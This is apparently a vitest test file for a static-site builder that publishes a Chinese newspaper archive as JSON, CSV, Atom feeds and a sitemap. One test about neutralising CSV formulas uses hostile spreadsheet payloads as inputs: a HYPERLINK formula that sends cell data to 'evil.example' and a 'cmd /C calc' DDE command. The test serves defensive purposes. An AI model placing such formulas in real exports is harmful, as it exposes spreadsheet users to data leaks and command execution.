/**
 * The archive as data: articles.json / .csv, per-issue JSON, Atom feeds, sitemap and robots.txt. The demo archive
 * is built once under a pathPrefix with a public address, so every absolute URL must carry both; expectations are
 * computed from the parsed records (loadArchive) and from the files on disk, never from data-out's own helpers.
 */
import { execFile } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildSite, SiteBuildError } from "../../src/site/build-site.ts";
import { loadArchive } from "../../src/content/load-archive.ts";
import { articleTables, csvField } from "../../src/site/article-tables.ts";
import { atomDate, feedArticles, sitemapFiles, xmlEscape } from "../../src/site/feeds.ts";
import { absoluteUrl, readSiteConfig, resolveSiteAddress, siteRoot } from "../../src/site/site-config.ts";
import type { ArticleRecord, IssueRecord } from "../../src/types.ts";
import type { SiteArticle, SiteIssue } from "../../src/site/site-types.ts";

const run = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, "../..");
const PUBLIC = "https://baokan.example.org/archive/";
const tmp = mkdtempSync(path.join(os.tmpdir(), "baokan-data-"));
const out = path.join(tmp, "_site");
let issues: IssueRecord[];
let indexedPages = 0;

/** A file in the build by its absolute public URL (https://…/archive/x/ → out/x/index.html). */
function fileOf(url: string): string {
  expect(url.startsWith(PUBLIC), url).toBe(true);
  const rel = url.slice(PUBLIC.length);
  return path.join(out, ...rel.split("/").filter(Boolean), ...(rel === "" || rel.endsWith("/") ? ["index.html"] : []));
}
const read = (rel: string) => readFileSync(path.join(out, rel), "utf8");

/** An RFC 4180 reader written for the test, independent of data-out's writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(field); field = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { row.push(field); rows.push(row); row = []; field = ""; i++; }
    else if (c === "\n") throw new Error(`bare LF at ${i}: RFC 4180 rows end in CRLF`);
    else field += c;
  }
  if (field || row.length) throw new Error("last row not terminated by CRLF");
  return rows;
}

/** <tag …>text</tag> and <tag attr="…"/> pieces of our own feed layout, unescaped. */
const unescapeXml = (s: string) => s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, "&");
const entries = (xml: string) => [...xml.matchAll(/<entry>([\s\S]*?)<\/entry>/g)].map((m) => m[1]!);
const tag = (xml: string, name: string) => [...xml.matchAll(new RegExp(`<${name}[^>]*>([^<]*)</${name}>`, "g"))].map((m) => unescapeXml(m[1]!));
const hrefs = (xml: string) => [...xml.matchAll(/href="([^"]*)"/g)].map((m) => unescapeXml(m[1]!));

beforeAll(async () => {
  issues = (await loadArchive("content")).issues;
  const result = await buildSite({ contentDir: "content", outDir: out, pathPrefix: "/archive/", siteUrl: "https://baokan.example.org", log: () => {} });
  indexedPages = result.indexedPages;
  expect(result.siteRoot).toBe(PUBLIC);
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe("articles.json", () => {
  it("holds every parsed article record unchanged, plus id, paper, paperName, issueDate and a URL of a built page", () => {
    const rows = JSON.parse(read("data/articles.json")) as (ArticleRecord & { id: string; paper: string; paperName: string; issueDate: string | null; url: string })[];
    const expected = issues.flatMap((i) => i.articles.map((a) => ({ issue: i, a })));
    expect(rows.length).toBe(expected.length);
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    for (const { issue, a } of expected) {
      const row = rows.find((r) => r.source.file === issue.file && r.index === a.index)!;
      expect(row, `${issue.file} #${a.index}`).toBeDefined();
      const { id, paper, paperName, issueDate, url, ...record } = row;
      expect(Object.keys(row).slice(0, 5)).toEqual(["id", "paper", "paperName", "issueDate", "url"]);
      expect(record).toEqual(JSON.parse(JSON.stringify(a)));
      expect(paper).toBe(issue.paper);
      // The paper's name as paper.yaml gives it (the folder's name when it gives none).
      expect(paperName).toBe(issue.paperName ?? issue.paper);
      expect(issueDate).toBe(issue.issueDate);
      expect(url).toBe(`${PUBLIC}${id}/`);
      expect(existsSync(fileOf(url)), url).toBe(true);
      // The page it points to is this article's: same headline (or, untitled, its first words).
      const page = readFileSync(fileOf(url), "utf8");
      expect(page).toContain((a.headline ?? a.body[0] ?? "").slice(0, 10).replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;"));
    }
  });
});

describe("per-issue JSON", () => {
  it("is byte for byte what `baokan parse --json` prints for that file", { timeout: 120_000 }, async () => {
    const list = JSON.parse(read("data/issues.json")) as { id: string; file: string; url: string; json: string; articleCount: number }[];
    expect(list.length).toBe(issues.length);
    const tsx = path.join(ROOT, "node_modules", ".bin", "tsx");
    for (const issue of issues) {
      const entry = list.find((e) => e.file === issue.file)!;
      expect(entry.articleCount).toBe(issue.articles.length);
      expect(existsSync(fileOf(entry.url))).toBe(true);
      const { stdout } = await run(tsx, ["src/cli/main.ts", "parse", "--json", issue.file], { cwd: ROOT, maxBuffer: 64 << 20 });
      expect(readFileSync(fileOf(entry.json), "utf8")).toBe(stdout);
    }
  });
});

describe("articles.csv", () => {
  it("is UTF-8 with a BOM, CRLF rows, and one row per article matching articles.json", () => {
    const raw = readFileSync(path.join(out, "data/articles.csv"));
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(raw.toString("utf8").slice(1));
    expect(rows[0]).toEqual(["id", "paper", "paperName", "date", "unit", "headline", "authors", "url"]);
    const json = JSON.parse(read("data/articles.json")) as (ArticleRecord & { id: string; paper: string; paperName: string; url: string; issueDate: string | null })[];
    expect(rows.length - 1).toBe(json.length);
    for (const [i, r] of json.entries()) {
      expect(rows[i + 1]).toEqual([r.id, r.paper, r.paperName, r.date ?? r.issueDate ?? "", r.unit ?? "", r.headline ?? "", r.authors.join("、"), r.url]);
    }
  });

  it("quotes fields with commas, quotes and line breaks (RFC 4180)", () => {
    expect(csvField("安全生产")).toBe("安全生产");
    expect(csvField("甲,乙")).toBe('"甲,乙"');
    expect(csvField('他说"好"')).toBe('"他说""好"""');
    expect(csvField("第一行\r\n第二行")).toBe('"第一行\r\n第二行"');
    expect(csvField(null)).toBe("");
    const cells = ['a,"b"', "c\nd", "", "普通"];
    expect(parseCsv(`${cells.map(csvField).join(",")}\r\n`)).toEqual([cells]);
  });

  it("puts a ' before a cell a spreadsheet would run as a formula (= + - @ tab CR, as OWASP advises); the JSON stays exact", () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
    for (const f of formulas) {
      const [cell] = parseCsv(`${csvField(f)}\r\n`)[0]!;
      expect(cell).toBe(`'${f}`);
    }
    // Text that only contains those characters, or starts with a full-width one, is left as it is.
    for (const s of ["安全生产=效益", "a-b", "——记劳模张三", "＝１", "2024-01-05"]) expect(csvField(s)).toBe(s);

    // Through the writer of the data files: the CSV row is neutralised, the articles.json row is not.
    const headline = "=HYPERLINK(\"http://evil.example\",\"劲旅\")";
    const article = { ...issues[0]!.articles[0]!, index: 1, headline, unit: "@电解厂", authors: ["-张三"] };
    const rec = { ...issues[0]!, articles: [article] } as IssueRecord;
    const site = { paper: "jinlv", paperName: "劲旅", url: "/jinlv/2024-01-05/" } as unknown as SiteIssue;
    const page = { index: 1, url: "/jinlv/2024-01-05/01/" } as unknown as SiteArticle;
    const [json, csv] = articleTables([{ rec, site, articles: new Map([[1, page]]) }], PUBLIC);
    const row = (JSON.parse(json!.body.toString("utf8")) as ArticleRecord[])[0]!;
    expect([row.headline, row.unit, row.authors]).toEqual([headline, "@电解厂", ["-张三"]]);
    const cells = parseCsv(csv!.body.toString("utf8").slice(1))[1]!;
    expect(cells.slice(1, 3)).toEqual(["jinlv", "劲旅"]);
    expect([cells[4], cells[5], cells[6]]).toEqual(["'@电解厂", `'${headline}`, "'-张三"]);
  });
});

describe("Atom feeds", () => {
  it("lists the newest dated articles first in /feed.xml, with absolute URLs under the prefix", () => {
    const xml = read("feed.xml");
    expect(xml.startsWith('<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"')).toBe(true);
    const dated = issues.flatMap((i) => i.articles).filter((a) => a.date);
    const es = entries(xml);
    expect(es.length).toBe(Math.min(50, dated.length));
    const updated = es.map((e) => tag(e, "updated")[0]!);
    expect([...updated].sort().reverse()).toEqual(updated);
    const newest = dated.map((a) => (a.date!.length === 7 ? `${a.date}-01` : a.date!)).sort().reverse()[0]!;
    expect(tag(xml, "updated")[0]!.slice(0, 10)).toBe(newest);
    for (const href of hrefs(xml)) expect(href.startsWith(PUBLIC), href).toBe(true);
    for (const e of es) {
      const [id] = tag(e, "id");
      expect(existsSync(fileOf(id!)), id).toBe(true);
      expect(tag(e, "title")[0]!.length).toBeGreaterThan(0);
      expect(tag(e, "summary")[0]!.length).toBeGreaterThan(0);
    }
    expect(hrefs(xml)).toContain(`${PUBLIC}feed.xml`);
  });

  it("gives each paper its own feed with only that paper's articles", () => {
    for (const slug of new Set(issues.map((i) => i.paper!))) {
      const xml = read(`${slug}/feed.xml`);
      const count = issues.filter((i) => i.paper === slug).flatMap((i) => i.articles).filter((a) => a.date).length;
      expect(entries(xml).length).toBe(Math.min(50, count));
      for (const e of entries(xml)) expect(tag(e, "id")[0]!.startsWith(`${PUBLIC}${slug}/`)).toBe(true);
      expect(hrefs(xml)).toContain(`${PUBLIC}${slug}/feed.xml`);
    }
  });

  it("escapes markup and drops characters XML forbids", () => {
    expect(xmlEscape('<b>"甲" & \'乙\'</b>')).toBe("&lt;b&gt;&quot;甲&quot; &amp; &apos;乙&apos;&lt;/b&gt;");
    expect(xmlEscape("换页\f符\u0000与\ud800孤立代理")).toBe("换页符与孤立代理");
    expect(xmlEscape("𠮷野家")).toBe("𠮷野家");
    expect(atomDate("2024-04-25")).toBe("2024-04-25T00:00:00+08:00");
    expect(atomDate("2024-01")).toBe("2024-01-01T00:00:00+08:00");
  });

  it("leaves undated articles out and stops at the cap", () => {
    const a = (url: string, date: string | null) => ({ url, date, sortDate: date ?? "0000-01-01", issueUrl: url.replace(/\d+\/$/, ""), index: Number(url.match(/(\d+)\/$/)![1]) }) as SiteArticle;
    const list = [a("/p/x/01/", null), a("/p/2024-01/01/", "2024-01"), a("/p/2024-03-02/02/", "2024-03-02"), a("/p/2024-03-02/01/", "2024-03-02")];
    expect(feedArticles(list).map((x) => x.url)).toEqual(["/p/2024-03-02/01/", "/p/2024-03-02/02/", "/p/2024-01/01/"]);
    expect(feedArticles(list, 2).length).toBe(2);
  });
});

describe("sitemap.xml and robots.txt", () => {
  it("lists every HTML page of the build, and robots.txt points at it", () => {
    const pages = readdirSync(out, { recursive: true, encoding: "utf8" })
      // The 404 page answers at missing addresses: it is no page of the site's own (data-out.ts htmlPagePaths).
      .filter((f) => f.endsWith(".html") && f !== "404.html" && !f.startsWith("pagefind"))
      .map((f) => PUBLIC + f.split(path.sep).join("/").replace(/index\.html$/, ""));
    const locs = tag(read("sitemap.xml"), "loc");
    expect(locs.sort()).toEqual(pages.sort());
    expect(read("robots.txt")).toMatch(new RegExp(`^Sitemap: ${PUBLIC.replace(/[.]/g, "\\.")}sitemap\\.xml$`, "m"));
  });

  it("splits into an index of parts past the per-file limit", () => {
    const files = sitemapFiles("https://x.org/", ["/a/", "/b/", "/c/"], 2);
    expect(files.map(([p]) => p)).toEqual(["/sitemap.xml", "/sitemap-1.xml", "/sitemap-2.xml"]);
    expect(tag(files[0]![1], "loc")).toEqual(["https://x.org/sitemap-1.xml", "https://x.org/sitemap-2.xml"]);
    expect(tag(files[2]![1], "loc")).toEqual(["https://x.org/c/"]);
  });

  it("keeps data files out of the search index: only article pages are indexed", () => {
    // Pagefind's own count of pages in the index, summed over the shards pagefind/shards.json lists
    // (search-index.ts; its addDirectory count is every HTML file it read).
    const shards = (JSON.parse(read("pagefind/shards.json")) as { shards: string[] }).shards;
    expect(shards.length).toBeGreaterThan(0);
    const indexed = shards.reduce((sum, id) => {
      const entry = JSON.parse(read(`pagefind/${id}/pagefind-entry.json`)) as { languages: Record<string, { page_count: number }> };
      return sum + Object.values(entry.languages).reduce((n, l) => n + l.page_count, 0);
    }, 0);
    expect(indexed).toBe(issues.reduce((n, i) => n + i.articles.length, 0));
    expect(indexedPages).toBeGreaterThanOrEqual(indexed);
  });
});

describe("the open data page", () => {
  it("links every data file under the prefix, and each link resolves", () => {
    const html = read("data/index.html");
    const links = [...html.matchAll(/href="(\/archive\/[^"]*\.(?:json|csv|xml))"/g)].map((m) => m[1]!);
    for (const f of ["data/articles.json", "data/articles.csv", "data/issues.json", "feed.xml", "sitemap.xml"]) expect(links).toContain(`/archive/${f}`);
    const issueJsons = readdirSync(path.join(out, "data", "issues"), { recursive: true, encoding: "utf8" }).filter((f) => f.endsWith(".json"));
    expect(issueJsons.length).toBe(issues.length);
    for (const l of links) expect(existsSync(path.join(out, l.replace(/^\/archive\//, ""))), l).toBe(true);
    expect(links.filter((l) => l.startsWith("/archive/data/issues/")).length).toBe(issues.length);
  });
});

describe("the site address", () => {
  it("takes the option over site.yaml over the localhost default, and appends the prefix once", async () => {
    const cfg = { url: "https://a.example/", title: "t", description: null };
    expect(resolveSiteAddress("https://b.example", cfg, "/archive/")).toEqual({ root: "https://b.example/archive/", source: "option" });
    expect(resolveSiteAddress(undefined, cfg, undefined)).toEqual({ root: "https://a.example/", source: "site.yaml" });
    expect(resolveSiteAddress(undefined, { ...cfg, url: null })).toEqual({ root: "http://localhost:8080/", source: "default" });
    expect(siteRoot("https://a.example/archive/", "/archive/")).toBe("https://a.example/archive/");
    expect(siteRoot("https://a.example/sub", "archive")).toBe("https://a.example/sub/archive/");
    expect(() => siteRoot("example.org")).toThrow(/完整的 http\(s\) 地址/);
    expect((await readSiteConfig("content")).title).toBe("报刊档案");
  });

  it("makes a page's absolute URL as the URL parser does, for any site path under any root", () => {
    const segment = fc.stringMatching(/^[a-z0-9.~_%?#\- 中]{0,6}$/);
    const sitePath = fc.tuple(fc.boolean(), fc.array(segment, { maxLength: 5 }), fc.boolean())
      .map(([lead, parts, trail]) => `${lead ? "/" : ""}${parts.join("/")}${trail ? "/" : ""}`);
    const root = fc.constantFrom("http://localhost:8080/", "https://a.example/archive/", "https://a.example/%E6%8A%A5/");
    const parsed = (r: string, p: string): string => {
      try { return new URL(p.replace(/^\/+/, ""), r).href; } catch (e) { return `throws ${(e as Error).message}`; }
    };
    fc.assert(fc.property(root, sitePath, (r, p) => {
      let got: string;
      try { got = absoluteUrl(r, p); } catch (e) { got = `throws ${(e as Error).message}`; }
      expect(got).toBe(parsed(r, p));
    }), { numRuns: 3000 });
    for (const p of ["/jinlv/2024-01-05/03/", "/units/u-1a2b3c4d/2/", "/a/../b/", "./x", "/x/./y", "/.well-known/x", "/a..b/"]) {
      expect(absoluteUrl("https://a.example/archive/", p), p).toBe(new URL(p.replace(/^\/+/, ""), "https://a.example/archive/").href);
    }
  });

  it("refuses a site.yaml with a bad url or broken YAML, naming the file and line", async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), "baokan-siteyaml-"));
    mkdirSync(path.join(dir, "p"));
    writeFileSync(path.join(dir, "p", "2024-01-05.txt"), "本报讯 一篇正常的文章。（张三）\n");
    writeFileSync(path.join(dir, "site.yaml"), "url: example.org\n");
    await expect(readSiteConfig(dir)).rejects.toThrow(/site\.yaml:1: url: 应是完整的 http\(s\) 地址/);
    writeFileSync(path.join(dir, "site.yaml"), "title: 报刊\nurl: [unclosed\n");
    await expect(readSiteConfig(dir)).rejects.toThrow(/site\.yaml:\d+: 站点设置不是有效的 YAML/);
    await expect(buildSite({ contentDir: dir, outDir: path.join(dir, "_site"), log: () => {} })).rejects.toBeInstanceOf(SiteBuildError);
    expect(existsSync(path.join(dir, "_site"))).toBe(false);
    rmSync(dir, { recursive: true, force: true });
  });
});
